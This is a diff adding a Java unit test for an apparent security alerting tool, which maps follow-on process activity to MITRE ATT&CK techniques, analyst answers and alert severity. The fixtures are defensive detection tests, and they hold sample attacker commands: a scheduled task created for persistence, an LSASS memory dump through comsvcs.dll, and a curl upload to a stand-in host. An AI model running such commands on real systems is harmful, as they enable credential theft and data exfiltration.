@@ -1,0 +1,226 @@
+package io.clicktrail.alerter.aftermath;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.clicktrail.alert.Alert;
+import io.clicktrail.alert.AnalystQuestion;
+import io.clicktrail.alert.AnswerState;
+import io.clicktrail.alert.Attack;
+import io.clicktrail.alert.Severity;
+import io.clicktrail.alerter.Stories;
+import io.clicktrail.alerter.casefile.CaseFile;
+import io.clicktrail.alerter.context.CaseContext;
+import io.clicktrail.alerter.context.SubjectFact;
+import io.clicktrail.alerter.context.SubjectFacts;
+import io.clicktrail.alerter.context.SubjectHistory;
+import io.clicktrail.context.ContextFact;
+import io.clicktrail.context.ContextKind;
+import io.clicktrail.context.FollowOn;
+import io.clicktrail.detection.Detection;
+import io.clicktrail.state.Finding;
+import io.clicktrail.state.Subject;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.TreeMap;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+
+class FollowUpsTest {
+
+    /** The process that the story's execution starts. */
+    private static final String WSCRIPT = "5f2c-wscript";
+
+    private static final ContextFact TASK = fact(
+            "e1",
+            120,
+            "T1053.005",
+            "Scheduled Task/Job: Scheduled Task",
+            "TA0003",
+            "Persistence",
+            "a scheduled task was made",
+            "schtasks /create /tn upd",
+            "p1",
+            WSCRIPT);
+
+    @Test
+    void whatTheChainsProcessesDidIsSaidWithItsTechnique() {
+        Alert alert = alert(Stories.executed(), TASK);
+
+        assertThat(answer(alert, "Q8"))
+                .isEqualTo("Its processes: a scheduled task was made (Persistence, T1053.005) at 2026-03-03T09:16:07Z:"
+                        + " schtasks /create /tn upd.");
+        assertThat(question(alert, "Q8").getEventIds()).containsExactly("e1");
+        assertThat(alert.getAttack()).extracting(Attack::getSubTechniqueId).contains("T1053.005");
+        assertThat(alert.getSeverityReasons()).contains("what ran went on to persistence");
+        assertThat(alert.getSeverity()).isEqualTo(Severity.HIGH);
+    }
+
+    @Test
+    void grandchildrenBelongToTheChain() {
+        Alert alert = alert(
+                Stories.executed(),
+                TASK,
+                fact(
+                        "e2",
+                        130,
+                        "T1033",
+                        "System Owner/User Discovery",
+                        "TA0007",
+                        "Discovery",
+                        "x",
+                        "whoami",
+                        "p2",
+                        "p1"));
+
+        assertThat(answer(alert, "Q8"))
+                .startsWith("Its processes: a scheduled task was made")
+                .contains("whoami");
+    }
+
+    @Test
+    void whatOthersDoOnTheHostIsToldApartAndRaisesNothing() {
+        Alert alert = alert(
+                Stories.executed(),
+                fact(
+                        "e3",
+                        600,
+                        "T1033",
+                        "System Owner/User Discovery",
+                        "TA0007",
+                        "Discovery",
+                        "x",
+                        "whoami",
+                        "p9",
+                        "it"));
+
+        assertThat(answer(alert, "Q8"))
+                .startsWith("Other processes of the host in the day after: x (Discovery, T1033)");
+        assertThat(alert.getAttack()).extracting(Attack::getTechniqueId).doesNotContain("T1033");
+    }
+
+    @Test
+    void goingForCredentialsIsCritical() {
+        Alert alert = alert(
+                Stories.executed(),
+                fact(
+                        "e4",
+                        60,
+                        "T1003.001",
+                        "OS Credential Dumping: LSASS Memory",
+                        "TA0006",
+                        "Credential Access",
+                        "the memory of LSASS was saved",
+                        "rundll32 comsvcs.dll, MiniDump",
+                        "p4",
+                        WSCRIPT));
+
+        assertThat(alert.getSeverity()).isEqualTo(Severity.CRITICAL);
+        assertThat(alert.getEscalation().getReasons()).contains("what ran went for credentials");
+    }
+
+    @Test
+    void aCommandThatUploadsIsDataSentOut() {
+        Alert alert = alert(
+                Stories.executed(),
+                fact(
+                        "e5",
+                        60,
+                        "T1041",
+                        "Exfiltration Over C2 Channel",
+                        "TA0010",
+                        "Exfiltration",
+                        "a file was uploaded",
+                        "curl -F f=@/tmp/out.zip https://x.example/u",
+                        "p5",
+                        WSCRIPT));
+
+        assertThat(answer(alert, "Q16"))
+                .startsWith("Yes, by a command: a file was uploaded (Exfiltration, T1041) at 2026-03-03T09:15:07Z:");
+    }
+
+    @Test
+    void nothingKnownOfLiveProcessesIsANoAndNothingRunCannotBeKnown() {
+        assertThat(answer(alert(Stories.executed()), "Q8"))
+                .isEqualTo("No persistence, credential access, discovery, upload or further download is known of its"
+                        + " processes.");
+        assertThat(question(alert(Stories.contacted()), "Q8").getState()).isEqualTo(AnswerState.UNANSWERED);
+    }
+
+    @Test
+    void anotherDayIsAnotherStory() {
+        Alert alert = alert(
+                Stories.executed(),
+                fact(
+                        "e6",
+                        90_000,
+                        "T1033",
+                        "System Owner/User Discovery",
+                        "TA0007",
+                        "Discovery",
+                        "x",
+                        "y",
+                        "p6",
+                        WSCRIPT));
+
+        assertThat(answer(alert, "Q8")).doesNotContain("T1033");
+    }
+
+    private static ContextFact fact(
+            String id,
+            int seconds,
+            String technique,
+            String name,
+            String tactic,
+            String tacticName,
+            String what,
+            String shown,
+            @Nullable String entity,
+            @Nullable String parent) {
+        return ContextFact.newBuilder()
+                .setKind(ContextKind.FOLLOW_ON)
+                .setEventId(id)
+                .setTime(Stories.CLICK_TIME.plus(Duration.ofSeconds(seconds)))
+                .setDataset("windows.sysmon")
+                .setHost(Stories.HOST)
+                .setFollowOn(FollowOn.newBuilder()
+                        .setTechnique(technique)
+                        .setTechniqueName(name)
+                        .setTactic(tactic)
+                        .setTacticName(tacticName)
+                        .setWhat(what)
+                        .setShown(shown)
+                        .setEntityId(entity)
+                        .setParentEntityId(parent)
+                        .setListVersion("2026-11-30")
+                        .build())
+                .build();
+    }
+
+    private static Alert alert(Detection detection, ContextFact... facts) {
+        var subjects = new TreeMap<String, Subject>();
+        for (ContextFact fact : facts) {
+            for (SubjectFact note : SubjectFacts.of(fact)) {
+                subjects.merge(
+                        note.subject(),
+                        SubjectHistory.with(SubjectHistory.EMPTY, note.content()),
+                        (known, first) -> SubjectHistory.with(known, note.content()));
+            }
+        }
+        List<Finding> findings = new ArrayList<>();
+        subjects.forEach((subject, known) -> findings.add(new Finding(detection.getDetectionId(), subject, known)));
+        return new CaseFile(Stories.ORGANISATION)
+                .of(detection, detection.getDetectionId(), CaseContext.of(detection, findings));
+    }
+
+    private static AnalystQuestion question(Alert alert, String id) {
+        return alert.getAnalystQuestions().stream()
+                .filter(question -> question.getId().equals(id))
+                .findFirst()
+                .orElseThrow();
+    }
+
+    private static String answer(Alert alert, String id) {
+        return question(alert, id).getAnswer();
+    }
+}
